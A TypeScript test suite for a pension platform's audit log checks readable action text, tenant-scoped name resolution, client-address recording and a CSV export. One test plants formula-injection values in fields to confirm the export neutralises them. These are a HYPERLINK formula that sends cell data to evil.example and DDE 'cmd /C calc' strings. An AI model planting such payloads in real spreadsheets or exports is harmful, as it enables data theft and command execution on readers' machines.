import { parse } from 'csv-parse/sync';
import { and, desc, eq, inArray } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AUDIT_ACTION_TEXT, LIST_ENTITY_ID, listInWords } from '../../src/contracts/audit-text.js';
import { csvCell } from '../../src/contracts/csv.js';
import { todayInIreland } from '../../src/contracts/irish-dates.js';
import { EXPORT_COLUMNS } from '../../src/server/modules/audit/audit.service.js';
import { SYSTEM_ACTOR } from '../../src/server/modules/auth/provisioning.service.js';
import { createCorpusIngest } from '../../src/server/modules/rag/ingest.service.js';
import { chainsAreSound } from '../../src/server/platform/audit/audit-log.js';
import { auditLog, users } from '../../src/server/platform/db/schema.js';
import { withActor } from '../../src/server/platform/db/with-actor.js';
import { tenantActor } from '../helpers/actors.js';
import { buildTestApp, type TestApp } from '../helpers/app.js';
import { testAuditService, verifyTestChains } from '../helpers/audit.js';
import { uniqueClientAddress } from '../helpers/clients.js';
import { ownerOf } from '../helpers/database.js';
import { documentForm, SAMPLES } from '../helpers/documents.js';
import { createMember, createUser, type MemberRow, type UserRow } from '../helpers/factories.js';
import { schemeFixture } from '../helpers/fixtures.js';
import { registerName } from '../helpers/leak-registry.js';
import { newPpsNumber } from '../helpers/pps.js';
import { createRunIn } from '../helpers/statements.js';

/**
 * An audit log a reviewer can read (docs/decisions/0051-readable-audit-log.md). Actions in words,
 * people and records by name (resolved when read, never across tenants; the records keep ids), the
 * client address the server trusted beside the x-forwarded-for header, and a CSV export that a
 * spreadsheet cannot be made to run.
 */

interface AuditItem {
  id: string;
  action: string;
  actorId: string;
  actorType: string;
  entityType: string;
  entityId: string;
  summary: string;
  actorName: string | null;
  entityLabel: string | null;
  entityDeleted: boolean;
  ipAddress: string;
  clientAddress: string | null;
  newState: unknown;
}

const FIXED_DAY = Date.parse('2026-11-23T10:00:00Z');
let clock = FIXED_DAY;
let t: TestApp;
/** The same database and clock, behind a proxy the service trusts. */
let proxied: TestApp;

interface Tenant {
  brokerId: string;
  employerId: string;
  schemeId: string;
  admin: UserRow;
  member: MemberRow;
}
let a: Tenant;
let b: Tenant;
let superAdmin: UserRow;

async function named(user: UserRow, name: string): Promise<UserRow> {
  await ownerOf(t.database)
    .update(users)
    .set({ name: registerName(name) })
    .where(eq(users.id, user.id));
  return { ...user, name };
}

async function newTenant(adminName: string, member: { firstName: string; lastName: string }) {
  const { members, admin, ...scope } = await schemeFixture(t.database, {
    employerName: 'Liffey Bakers Ltd',
    members: [member],
    users: { admin: 'BrokerAdmin' },
  });
  return { ...scope, admin: await named(admin, adminName), member: members[0] as MemberRow };
}

async function as(
  app: TestApp,
  user: UserRow,
  method: 'GET' | 'POST' | 'PATCH' | 'DELETE',
  url: string,
  options: { payload?: object; remoteAddress?: string; headers?: Record<string, string> } = {},
) {
  return app.app.inject({
    method,
    url,
    ...(options.payload === undefined ? {} : { payload: options.payload }),
    remoteAddress: options.remoteAddress ?? uniqueClientAddress(),
    headers: { authorization: `Bearer ${await app.tokenFor(user)}`, ...options.headers },
  });
}

async function auditOf(reader: UserRow, filters = ''): Promise<AuditItem[]> {
  const response = await as(t, reader, 'GET', `/api/audit?limit=100${filters}`);
  expect(response.statusCode, response.body).toBe(200);
  return response.json().items;
}

async function exportOf(reader: UserRow, filters = '') {
  const response = await as(t, reader, 'GET', `/api/audit/export.csv${filters}`);
  expect(response.statusCode, response.body).toBe(200);
  return response;
}

function rowsOfCsv(body: string): Array<Record<string, string>> {
  return parse(body, { bom: true, columns: true, skip_empty_lines: true });
}

beforeAll(async () => {
  t = await buildTestApp({ now: () => new Date(clock) });
  proxied = await buildTestApp({
    database: t.database,
    now: () => new Date(clock),
    env: { TRUST_PROXY: '10.0.0.0/8' },
  });
  a = await newTenant('Siobhán Kehoe', { firstName: 'Aoife', lastName: 'Byrne' });
  b = await newTenant('Tadhg Ó Murchú', { firstName: 'Ciarán', lastName: 'Walsh' });
  superAdmin = await named(await createUser(t.database, { role: 'SuperAdmin' }), 'Platform Person');
});
afterAll(async () => {
  await proxied.close();
  await t.close();
});

describe('GET /api/audit in words and names', () => {
  it('gives each record its action in words, who acted and what was affected by name', async () => {
    clock += 1000;
    const created = await as(t, a.admin, 'POST', '/api/schemes', {
      payload: { employerId: a.employerId, name: 'Liffey Bakers Staff Pension', type: 'DC' },
    });
    expect(created.statusCode).toBe(201);
    clock += 1000;
    expect(
      (
        await as(t, a.admin, 'POST', `/api/members/${a.member.id}/pps/reveal`, {
          payload: { reason: 'identity_check' },
        })
      ).statusCode,
    ).toBe(200);
    clock += 1000;
    await as(t, a.admin, 'PATCH', `/api/employers/${a.employerId}`, {
      payload: { name: 'Liffey Bakers (Dublin) Ltd' },
    });

    const items = await auditOf(a.admin);
    const byAction = (action: string) => items.find((item) => item.action === action);
    expect(byAction('member.pps_decrypted')).toMatchObject({
      summary: 'Revealed a member’s PPS number',
      actorName: 'Siobhán Kehoe',
      entityType: 'member',
      entityId: a.member.id,
      entityLabel: 'Aoife Byrne',
      entityDeleted: false,
    });
    expect(byAction('scheme.created')).toMatchObject({
      summary: 'Created a scheme',
      actorName: 'Siobhán Kehoe',
      entityLabel: 'Liffey Bakers Staff Pension',
    });
    // Resolved when read: the employer's name as it is now, the record itself keeps ids only.
    expect(byAction('employer.updated')).toMatchObject({
      summary: 'Changed an employer’s details',
      entityLabel: 'Liffey Bakers (Dublin) Ltd',
    });
    const [stored] = await ownerOf(t.database)
      .select()
      .from(auditLog)
      .where(eq(auditLog.id, byAction('member.pps_decrypted')?.id as string));
    expect(JSON.stringify(stored)).not.toMatch(/Aoife|Byrne|Siobhán|Kehoe/);
  });

  it('reads every record in its manifest’s words, never as a code (test/audit/audit-words.test.ts)', async () => {
    const items = await auditOf(a.admin);
    expect(items.length).toBeGreaterThanOrEqual(3);
    for (const item of items) {
      expect(item.summary).toBe(AUDIT_ACTION_TEXT[item.action]);
      expect(item.summary).not.toContain(item.action);
    }
  });

  it('names a document, a written policy, a trustee and a key function holder as people know them, the records keeping ids', async () => {
    clock += 1000;
    const trustee = await as(t, a.admin, 'POST', `/api/schemes/${a.schemeId}/trustees`, {
      payload: {
        name: registerName('Máire Ní Bhriain'),
        kind: 'individual',
        appointedOn: '2024-05-01',
        fitnessAndProbity: 'confirmed',
      },
    });
    expect(trustee.statusCode, trustee.body).toBe(201);
    const holder = await as(t, a.admin, 'POST', `/api/schemes/${a.schemeId}/key-function-holders`, {
      payload: {
        function: 'risk_management',
        holderName: registerName('Pádraig Ó Sé'),
        appointedOn: '2024-05-01',
        alsoServesEmployer: false,
      },
    });
    expect(holder.statusCode, holder.body).toBe(201);
    const policy = await as(t, a.admin, 'POST', `/api/schemes/${a.schemeId}/policies`, {
      payload: { kind: 'remuneration', title: 'Pay of the trustees', version: '1.2' },
    });
    expect(policy.statusCode, policy.body).toBe(201);
    const form = documentForm('Trust deed 2024.pdf', SAMPLES.pdf, { documentType: 'trust_deed' });
    const document = await t.app.inject({
      method: 'POST',
      url: `/api/schemes/${a.schemeId}/documents`,
      remoteAddress: uniqueClientAddress(),
      headers: { ...form.headers, authorization: `Bearer ${await t.tokenFor(a.admin)}` },
      payload: form.payload,
    });
    expect(document.statusCode, document.body).toBe(201);

    const labelOf = (items: AuditItem[], id: string) =>
      items.find((item) => item.entityId === id)?.entityLabel;
    const expected = {
      [trustee.json().id]: 'Máire Ní Bhriain',
      [holder.json().id]: 'Pádraig Ó Sé, risk management',
      [policy.json().id]: 'Remuneration policy, version 1.2',
      [document.json().id]: 'Trust deed 2024.pdf',
    };
    for (const reader of [a.admin, superAdmin]) {
      const items = await auditOf(reader);
      for (const [id, label] of Object.entries(expected)) {
        expect(labelOf(items, id), `${label} for ${reader.role}`).toBe(label);
      }
    }
    // The records themselves keep ids: no name, title or file name.
    const stored = await ownerOf(t.database)
      .select()
      .from(auditLog)
      .where(eq(auditLog.tenantId, a.brokerId));
    expect(JSON.stringify(stored)).not.toMatch(/Máire|Bhriain|Pádraig|Ó Sé|Trust deed 2024/);
  });

  it('names a fund’s price, a switch, a member’s holdings, a scheme’s fund assets and a conflict of interest in plain words, the records keeping ids', async () => {
    clock += 1000;
    const fund = await as(t, a.admin, 'POST', `/api/schemes/${a.schemeId}/funds`, {
      payload: { name: 'Irish Equity' },
    });
    expect(fund.statusCode, fund.body).toBe(201);
    const fundId = fund.json().id as string;
    for (const price of ['1.000000', '1.050000']) {
      const priced = await as(t, a.admin, 'POST', `/api/funds/${fundId}/prices`, {
        payload: { prices: [{ on: '2026-11-20', price }] },
      });
      expect(priced.statusCode, priced.body).toBe(200);
    }
    const switched = await as(t, a.admin, 'POST', `/api/members/${a.member.id}/switches`, {
      payload: { to: [{ fundId, percent: 100 }] },
    });
    expect(switched.statusCode, switched.body).toBe(202);
    // Platform staff reading a member's holdings, their ledger and a scheme's fund assets is
    // itself recorded.
    for (const url of [
      `/api/members/${a.member.id}/holdings`,
      `/api/members/${a.member.id}/transactions`,
      `/api/schemes/${a.schemeId}/fund-assets`,
    ]) {
      expect((await as(t, superAdmin, 'GET', url)).statusCode, url).toBe(200);
    }
    const conflict = await as(t, a.admin, 'POST', `/api/schemes/${a.schemeId}/conflicts`, {
      payload: {
        personName: registerName('Eoin Mac Cárthaigh'),
        interest: 'Director of the fund manager',
        declaredOn: '2026-11-02',
      },
    });
    expect(conflict.statusCode, conflict.body).toBe(201);

    for (const reader of [a.admin, superAdmin]) {
      const items = await auditOf(reader);
      const labelOf = (action: string) => items.find((item) => item.action === action)?.entityLabel;
      expect(labelOf('fund_price.corrected'), reader.role).toBe(
        'Irish Equity: price of 20 Nov 2026',
      );
      expect(labelOf('fund_switch.requested'), reader.role).toBe(
        'Aoife Byrne: switch asked for on 23 Nov 2026',
      );
      expect(labelOf('conflict.recorded'), reader.role).toBe(
        'Eoin Mac Cárthaigh: conflict of interest declared 2 Nov 2026',
      );
      if (reader === superAdmin) {
        // A list is recorded as a list: there is no one record to name, only how many it returned.
        const listed = items.find((item) => item.action === 'member_transaction.listed');
        const returned = (listed?.newState as { returned?: number } | undefined)?.returned;
        expect(returned).toBeTypeOf('number');
        expect(listed?.entityLabel).toBe(listInWords(returned as number));
      }
    }
    const ofTenant = await auditOf(a.admin, `&actorId=${superAdmin.id}`);
    const viewed = (action: string) => ofTenant.find((item) => item.action === action);
    expect(viewed('member_holdings.viewed')).toMatchObject({
      summary: 'Viewed a member’s holdings',
      entityId: a.member.id,
      entityLabel: 'Aoife Byrne',
      entityDeleted: false,
    });
    expect(viewed('fund_assets.viewed')).toMatchObject({
      summary: 'Viewed the assets of a scheme’s funds',
      entityId: a.schemeId,
      entityLabel: 'Acme Staff Pension Scheme',
    });
    // The records themselves keep ids: no fund's or person's name.
    const named = (await auditOf(a.admin)).filter((item) =>
      [
        'fund_price.corrected',
        'fund_switch.requested',
        'conflict.recorded',
        'member_holdings.viewed',
        'fund_assets.viewed',
      ].includes(item.action),
    );
    expect(named).toHaveLength(5);
    const stored = await ownerOf(t.database)
      .select()
      .from(auditLog)
      .where(
        inArray(
          auditLog.id,
          named.map((item) => item.id),
        ),
      );
    expect(stored).toHaveLength(5);
    expect(JSON.stringify(stored)).not.toMatch(/Irish Equity|Aoife|Byrne|Eoin|Cárthaigh|Acme/);
  });

  it('names a payroll upload only to a reader who may read it where it lives', async () => {
    clock += 1000;
    const csv = [
      'PPS Number,Date of Birth,Period Start,Period End,Gross Pay',
      `${newPpsNumber()},1980-01-15,2026-10-01,2026-10-31,3000.00`,
    ].join('\n');
    const uploaded = await t.app.inject({
      method: 'POST',
      url: `/api/employers/${a.employerId}/payroll/import?fileName=october.csv`,
      remoteAddress: uniqueClientAddress(),
      headers: {
        'content-type': 'text/csv',
        authorization: `Bearer ${await t.tokenFor(a.admin)}`,
      },
      payload: csv,
    });
    expect(uploaded.statusCode, uploaded.body).toBe(201);
    const id = uploaded.json().id as string;
    const ofBroker = (await auditOf(a.admin)).find((item) => item.entityId === id);
    expect(ofBroker?.entityLabel).toBe('Payroll file october.csv for Liffey Bakers (Dublin) Ltd');
    // Platform staff may read the audit log, never an employer's payroll: the upload stays an id.
    const ofStaff = (await auditOf(superAdmin)).find((item) => item.entityId === id);
    expect(ofStaff).toMatchObject({ summary: 'Uploaded a payroll file', entityLabel: null });
  });

  it('names a contribution by its member, its kind and its period in words', async () => {
    clock += 1000;
    const paid = await as(t, a.admin, 'POST', `/api/members/${a.member.id}/contributions`, {
      payload: { period: '2026-10', kind: 'employee', amountCents: 10_000 },
    });
    expect(paid.statusCode, paid.body).toBe(201);
    for (const reader of [a.admin, superAdmin]) {
      const shown = (await auditOf(reader)).find((item) => item.entityId === paid.json().id);
      expect(shown?.entityLabel, reader.role).toBe('Aoife Byrne: Employee contribution, Oct 2026');
    }
  });

  it('labels a list platform staff read as a list, with how many records it returned', async () => {
    clock += 1000;
    const provider = await as(t, a.admin, 'POST', '/api/dora/ict-providers', {
      payload: {
        name: 'Harbour Payroll Services',
        country: 'IE',
        serviceType: 'S19',
        contractReference: 'HPS-2025-014',
        startedOn: '2025-02-01',
        supportsCriticalFunction: true,
      },
    });
    expect(provider.statusCode, provider.body).toBe(201);
    clock += 1000;
    const listed = await as(t, superAdmin, 'GET', '/api/dora/ict-providers');
    expect(listed.statusCode, listed.body).toBe(200);
    expect(listed.json().items).toHaveLength(1);
    const [shown] = await auditOf(
      superAdmin,
      `&entityType=ict_provider&entityId=${LIST_ENTITY_ID}`,
    );
    expect(shown).toMatchObject({
      action: 'ict_provider.listed',
      entityId: LIST_ENTITY_ID,
      entityLabel: 'A list of 1 record',
      entityDeleted: false,
    });
    const rows = rowsOfCsv((await exportOf(superAdmin, '?entityType=ict_provider')).body);
    expect(rows.find((row) => row['Action code'] === 'ict_provider.listed')?.Record).toBe(
      'A list of 1 record',
    );
  });

  it('names a text of the regulatory corpus by its title, for platform staff', async () => {
    clock += 1000;
    await createCorpusIngest({
      database: t.database,
      audit: testAuditService(() => new Date(clock)),
      now: () => new Date(clock),
    }).ingest(SYSTEM_ACTOR, [
      {
        source: 'audit-naming-act',
        title: 'Audit Naming Act 2026',
        format: 'markdown',
        content: '## Section 1\nA duty.',
      },
    ]);
    const [shown] = await auditOf(superAdmin, '&entityType=rag_source&entityId=audit-naming-act');
    expect(shown).toMatchObject({
      action: 'rag_source.ingested',
      entityLabel: 'Audit Naming Act 2026',
    });
    // The service itself holds no role: its CSV row says who, and leaves the role empty.
    const rows = rowsOfCsv(
      (await exportOf(superAdmin, '?entityType=rag_source&entityId=audit-naming-act')).body,
    );
    // It was no request: no header was sent, so the X-Forwarded-For cell is empty, as for a
    // request that carried none; the client address says it came from the service itself.
    expect(rows[0]).toMatchObject({
      Who: 'The service itself',
      Role: '',
      'Who (id)': 'system',
      'X-Forwarded-For': '',
      'Client address': 'local',
    });
  });

  it('names an ICT incident, an ICT provider, a breach, a data request, a statement run and a payment received as their registers do', async () => {
    clock += 1000;
    const created = async (url: string, payload: object) => {
      const response = await as(t, a.admin, 'POST', url, { payload });
      expect(response.statusCode, `${url}: ${response.body}`).toBe(201);
      return response.json().id as string;
    };
    const incident = await created('/api/ict-incidents', {
      title: 'Member portal unavailable',
      description: 'Members could not sign in; the service answered with errors.',
      detectedAt: '2026-11-22T07:50:00Z',
      becameAwareAt: '2026-11-22T08:00:00Z',
      servicesAffected: ['member_portal'],
    });
    const breach = await created('/api/data-breaches', {
      title: 'Statements posted to the wrong members',
      description: 'Annual statements went to other members of the scheme.',
      becameAwareAt: '2026-11-22T10:15:00Z',
      categoriesOfData: ['identity'],
      approximateMembers: 14,
      riskToPeople: 'risk',
    });
    const request = await created('/api/data-requests', {
      memberId: a.member.id,
      kind: 'access',
      receivedOn: '2026-11-20',
    });
    const receipt = await created(`/api/employers/${a.employerId}/remittance-receipts`, {
      month: '2026-10',
      receivedOn: '2026-11-20',
      amountCents: 100_000,
    });
    const run = await createRunIn(t.database, a, 'ready');
    // Platform staff reading a run is itself recorded, in the tenant's chain.
    expect((await as(t, superAdmin, 'GET', `/api/statement-runs/${run}`)).statusCode).toBe(200);
    const [provider] = await auditOf(a.admin, '&entityType=ict_provider');

    const expected = {
      [incident]: 'ICT-2026-001: Member portal unavailable',
      [provider?.entityId as string]: 'Harbour Payroll Services',
      [breach]: 'Statements posted to the wrong members',
      [request]: 'Access (Art. 15) from Aoife Byrne, received 20 Nov 2026',
      [run]: 'Acme Staff Pension Scheme: statements at 31 Dec 2025',
      [receipt]: 'Liffey Bakers (Dublin) Ltd: payment for Oct 2026',
    };
    for (const reader of [a.admin, superAdmin]) {
      const items = await auditOf(reader);
      for (const [id, label] of Object.entries(expected)) {
        const labels = items.filter((item) => item.entityId === id).map((item) => item.entityLabel);
        expect(labels.length, `${label} for ${reader.role}`).toBeGreaterThan(0);
        expect(new Set(labels), `${label} for ${reader.role}`).toEqual(new Set([label]));
      }
    }
    // The records themselves keep ids: no title, name or reference.
    const stored = await ownerOf(t.database)
      .select()
      .from(auditLog)
      .where(inArray(auditLog.entityId, Object.keys(expected)));
    expect(JSON.stringify(stored)).not.toMatch(/Harbour|Aoife|Byrne|Liffey|Acme|ICT-2026/);
  });

  it('names none of those records for a reader of another tenant, even in the reader’s own log', async () => {
    // A record in tenant B's chain naming tenant A's breach: B's BrokerAdmin may read breaches,
    // never A's, so the breach stays an id; platform staff read it by its title.
    const [breach] = await auditOf(a.admin, '&entityType=data_breach');
    const audit = testAuditService(() => new Date(clock));
    const actor = { ...tenantActor(b.brokerId), userId: b.admin.id };
    clock += 1000;
    await withActor(t.database, actor, (tx) =>
      audit.record(tx, actor, {
        action: 'data_breach.updated',
        entityType: 'data_breach',
        entityId: breach?.entityId as string,
        tenantId: b.brokerId,
        previousState: null,
        newState: null,
      }),
    );
    const [seenByB] = await auditOf(b.admin, `&entityId=${breach?.entityId}`);
    expect(seenByB).toMatchObject({ action: 'data_breach.updated', entityLabel: null });
    const seenByPlatform = await auditOf(superAdmin, `&entityId=${breach?.entityId}`);
    expect(seenByPlatform.map((item) => item.entityLabel)).toContain(
      'Statements posted to the wrong members',
    );
  });

  it('never resolves a name of another tenant, even for an id recorded in the reader’s own log', async () => {
    // A record in tenant A's chain naming tenant B's admin and member: a BrokerAdmin of A may
    // see the ids, never B's names (row-level security and the service's own tenant check).
    const audit = testAuditService(() => new Date(clock));
    const actor = { ...tenantActor(a.brokerId), userId: b.admin.id };
    clock += 1000;
    await withActor(t.database, actor, (tx) =>
      audit.record(tx, actor, {
        action: 'member.updated',
        entityType: 'member',
        entityId: b.member.id,
        tenantId: a.brokerId,
        previousState: null,
        newState: null,
      }),
    );
    const [seenByA] = await auditOf(a.admin, `&entityId=${b.member.id}`);
    expect(seenByA).toMatchObject({
      actorId: b.admin.id,
      actorName: null,
      entityId: b.member.id,
      entityLabel: null,
    });
    expect(JSON.stringify(await auditOf(a.admin))).not.toMatch(/Ciarán|Walsh|Tadhg|Murchú/);
    // B's own reader sees none of A's records at all; platform staff see every name.
    expect(JSON.stringify(await auditOf(b.admin))).not.toMatch(/Aoife|Siobhán|Liffey/);
    const [seenByPlatform] = await auditOf(superAdmin, `&entityId=${b.member.id}`);
    expect(seenByPlatform).toMatchObject({
      actorName: 'Tadhg Ó Murchú',
      entityLabel: 'Ciarán Walsh',
    });
  });

  it('shows platform staff to a tenant as platform staff, never by name', async () => {
    clock += 1000;
    expect((await as(t, superAdmin, 'GET', `/api/schemes/${a.schemeId}`)).statusCode).toBe(200);
    const [viewed] = await auditOf(a.admin, `&entityId=${a.schemeId}&actorId=${superAdmin.id}`);
    expect(viewed).toMatchObject({
      action: 'scheme.viewed',
      summary: 'Viewed a scheme',
      actorType: 'SuperAdmin',
      actorName: null,
      entityLabel: 'Acme Staff Pension Scheme',
    });
  });

  it('names a projection assumption set by its name, and an export by the log it read, not an id or a code', async () => {
    clock += 1000;
    const response = await as(t, a.admin, 'POST', '/api/statement-assumptions', {
      payload: {
        name: 'Pensions Authority guidance',
        effectiveFrom: '2026-01-01',
        source: 'The Pensions Authority’s guidance on benefit statement projections',
        bestEstimateReturnPct: 4.75,
        unfavourableReturnPct: 1.5,
        inflationPct: 2.5,
        salaryGrowthPct: 2.5,
        annuityFactor: 25,
      },
    });
    expect(response.statusCode, response.body).toBe(201);
    const set = response.json().id as string;
    await exportOf(a.admin, '?entityType=statement_assumptions');
    const [added] = await auditOf(a.admin, `&entityType=statement_assumptions&entityId=${set}`);
    expect(added).toMatchObject({
      summary: 'Added a projection assumption set',
      entityLabel: 'Pensions Authority guidance',
    });
    const [exported] = await auditOf(a.admin, '&entityType=audit&entityId=export');
    expect(exported).toMatchObject({
      summary: 'Exported the audit log as CSV',
      entityLabel: 'The audit log',
    });
  });

  it('says when the record named has been deleted since', async () => {
    const member = await createMember(
      t.database,
      { brokerId: a.brokerId, employerId: a.employerId, schemeId: a.schemeId },
      { firstName: 'Órla', lastName: 'Dunne' },
    );
    clock += 1000;
    expect((await as(t, a.admin, 'DELETE', `/api/members/${member.id}`)).statusCode).toBe(204);
    const [deleted] = await auditOf(a.admin, `&entityId=${member.id}`);
    expect(deleted).toMatchObject({
      action: 'member.deleted',
      summary: 'Deleted a member',
      entityLabel: 'Órla Dunne',
      entityDeleted: true,
    });
  });

  it('refuses a filter that is not an id, so none of someone’s words reaches a record', async () => {
    const response = await as(
      t,
      a.admin,
      'GET',
      `/api/audit?entityId=${encodeURIComponent('Aoife Byrne')}`,
    );
    expect(response.statusCode).toBe(400);
  });
});

describe('the client address the server trusted', () => {
  async function lastRecordOf(entityId: string, action: string) {
    const [record] = await ownerOf(t.database)
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.entityId, entityId), eq(auditLog.action, action)))
      .orderBy(desc(auditLog.timestamp))
      .limit(1);
    return record;
  }

  it('is the socket’s address without TRUST_PROXY, beside the header as it was sent', async () => {
    clock += 1000;
    await as(t, a.admin, 'PATCH', `/api/employers/${a.employerId}`, {
      payload: { name: 'Liffey Bakers Ltd' },
      remoteAddress: '192.0.2.61',
      headers: { 'x-forwarded-for': '198.51.100.61' },
    });
    expect(await lastRecordOf(a.employerId, 'employer.updated')).toMatchObject({
      ipAddress: '198.51.100.61',
      clientAddress: '192.0.2.61',
      hashVersion: 3,
    });
  });

  it('is what a trusted proxy forwarded with TRUST_PROXY, beside the header as it was sent', async () => {
    clock += 1000;
    await as(proxied, a.admin, 'PATCH', `/api/employers/${a.employerId}`, {
      payload: { name: 'Liffey Bakers (Dublin) Ltd' },
      remoteAddress: '10.9.9.9',
      headers: { 'x-forwarded-for': '203.0.113.5, 198.51.100.62' },
    });
    expect(await lastRecordOf(a.employerId, 'employer.updated')).toMatchObject({
      ipAddress: '203.0.113.5, 198.51.100.62',
      clientAddress: '198.51.100.62',
    });
    const [shown] = await auditOf(a.admin, `&entityId=${a.employerId}`);
    expect(shown).toMatchObject({
      ipAddress: '203.0.113.5, 198.51.100.62',
      clientAddress: '198.51.100.62',
    });
  });

  it('is recorded for someone not signed in too (a password reset request)', async () => {
    clock += 1000;
    const response = await proxied.app.inject({
      method: 'POST',
      url: '/api/auth/forgot-password',
      payload: { email: a.admin.email },
      remoteAddress: '10.9.9.10',
      headers: { 'x-forwarded-for': '198.51.100.63' },
    });
    expect(response.statusCode).toBe(200);
    expect(await lastRecordOf(a.admin.id, 'user.password_reset_requested')).toMatchObject({
      actorType: 'Anonymous',
      ipAddress: '198.51.100.63',
      clientAddress: '198.51.100.63',
    });
    const [shown] = await auditOf(a.admin, `&actorId=anonymous`);
    expect(shown).toMatchObject({
      summary: 'Asked for a password reset link',
      actorName: null,
      entityLabel: 'Siobhán Kehoe',
    });
  });
});

describe('GET /api/audit/export.csv', () => {
  it('writes the filtered log as CSV with times, names, words, ids and both addresses', async () => {
    const response = await exportOf(a.admin, `?entityId=${a.member.id}`);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename="audit-log-${todayInIreland(new Date())}.csv"`,
    );
    expect(response.body.startsWith('\uFEFF')).toBe(true);
    expect(response.body).toContain('\r\n');
    const rows = rowsOfCsv(response.body);
    expect(Object.keys(rows[0] ?? {})).toEqual([...EXPORT_COLUMNS]);
    const reveal = rows.find((row) => row['Action code'] === 'member.pps_decrypted');
    expect(reveal).toMatchObject({
      'Time (UTC)': expect.stringMatching(/^2026-11-23T10:00:\d\d\.\d{3}Z$/),
      'Time (Ireland)': expect.stringMatching(/^23\/11\/2026 10:00:\d\d GMT$/),
      Who: 'Siobhán Kehoe',
      Role: 'BrokerAdmin',
      'Who (id)': a.admin.id,
      Action: 'Revealed a member’s PPS number',
      'Record type': 'Member',
      Record: 'Aoife Byrne',
      'Record id': a.member.id,
      // The request carried no X-Forwarded-For: an empty cell, as the page shows nothing.
      'X-Forwarded-For': '',
    });
    expect(rows.every((row) => row['Record id'] === a.member.id)).toBe(true);
    expect(rows.map((row) => row['X-Forwarded-For'])).not.toContain('unknown');
  });

  it('keeps every cell a spreadsheet would run as a formula as text', async () => {
    const member = await createMember(
      t.database,
      { brokerId: a.brokerId, employerId: a.employerId, schemeId: a.schemeId },
      { firstName: '=HYPERLINK("http://evil.example/?x="&A1,"Open")', lastName: 'Byrne' },
    );
    clock += 1000;
    await as(t, a.admin, 'POST', `/api/members/${member.id}/pps/reveal`, {
      payload: { reason: 'identity_check' },
      headers: { 'x-forwarded-for': "@SUM(1+1)*cmd|' /C calc'!A0" },
    });
    clock += 1000;
    const scheme = await as(t, a.admin, 'POST', '/api/schemes', {
      payload: { employerId: a.employerId, name: "+cmd|' /C calc'!A0", type: 'DC' },
    });
    expect(scheme.statusCode).toBe(201);

    const body = (await exportOf(a.admin)).body;
    // As written: the quote first, then RFC 4180's doubled quotes inside a quoted cell.
    expect(body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Open"") Byrne"`);
    expect(body).toContain(`'+cmd|' /C calc'!A0`);
    expect(body).toContain(`'@SUM(1+1)*cmd|' /C calc'!A0`);
    const rows = rowsOfCsv(body);
    const reveal = rows.find((row) => row['Record id'] === member.id);
    expect(reveal?.Record).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Open") Byrne`);
    expect(reveal?.['X-Forwarded-For']).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
    const created = rows.find((row) => row['Record id'] === scheme.json().id);
    expect(created?.Record).toBe(`'+cmd|' /C calc'!A0`);
    // No cell of the whole file starts with a formula character.
    for (const row of rows) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('quotes and escapes cells as RFC 4180 says, and neutralises every formula start', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      expect(csvCell(`${start}1`)).toMatch(/^"?'/);
    }
    expect(csvCell('=1,2')).toBe(`"'=1,2"`);
  });

  it('is itself audited: the filters and the row count, never a name', async () => {
    clock += 1000;
    const response = await exportOf(a.admin, `?entityType=member&from=2026-11-01T00:00:00Z`);
    const exported = rowsOfCsv(response.body).length;
    const [record] = await ownerOf(t.database)
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.action, 'audit.exported'), eq(auditLog.actorId, a.admin.id)))
      .orderBy(desc(auditLog.timestamp))
      .limit(1);
    expect(record).toMatchObject({
      tenantId: a.brokerId,
      entityType: 'audit',
      entityId: 'export',
      newState: {
        filters: { entityType: 'member', from: '2026-11-01T00:00:00Z' },
        rows: exported,
        format: 'csv',
      },
    });
    expect(JSON.stringify(record)).not.toMatch(/Aoife|Byrne|Siobhán|HYPERLINK/);
    const [shown] = await auditOf(a.admin, '&entityType=audit&entityId=export');
    expect(shown).toMatchObject({
      summary: 'Exported the audit log as CSV',
      actorName: 'Siobhán Kehoe',
    });
  });

  it('holds only the reader’s own tenant for a BrokerAdmin, and every tenant for platform staff', async () => {
    clock += 1000;
    await as(t, b.admin, 'PATCH', `/api/employers/${b.employerId}`, {
      payload: { name: 'Shannon Ferries Ltd' },
    });
    const ofB = (await exportOf(b.admin)).body;
    expect(ofB).not.toMatch(/Aoife|Siobhán|Liffey/);
    expect(ofB).not.toContain(a.brokerId);
    expect(rowsOfCsv(ofB).map((row) => row.Record)).toContain('Shannon Ferries Ltd');
    const all = (await exportOf(superAdmin, `?entityType=member`)).body;
    expect(all).toContain('Aoife Byrne');
    expect(all).toContain('Ciarán Walsh');
  });

  it('is refused to everyone below BrokerAdmin, like the log itself', async () => {
    const user = await createUser(t.database, { brokerId: a.brokerId, role: 'BrokerUser' });
    const hr = await createUser(t.database, {
      brokerId: a.brokerId,
      employerId: a.employerId,
      role: 'EmployerAdmin',
    });
    for (const reader of [user, hr]) {
      for (const url of ['/api/audit/export.csv', '/api/audit']) {
        const response = await as(t, reader, 'GET', url);
        expect(response.statusCode).toBe(403);
        expect(response.json()).toEqual({ error: 'Forbidden' });
      }
    }
    const signedOut = await t.app.inject({ method: 'GET', url: '/api/audit/export.csv' });
    expect(signedOut.statusCode).toBe(401);
  });

  it('is described in the OpenAPI document as CSV', async () => {
    const spec = t.app.swagger() as {
      paths: Record<string, { get?: { responses: Record<string, { content?: object }> } }>;
    };
    const responses = spec.paths['/api/audit/export.csv']?.get?.responses;
    expect(Object.keys(responses?.['200']?.content ?? {})).toEqual(['text/csv']);
  });
});

describe('the chain after all of the above', () => {
  it('still verifies', async () => {
    const report = await verifyTestChains(t.database);
    expect(report.broken).toEqual([]);
    expect(chainsAreSound(report)).toBe(true);
  });
});
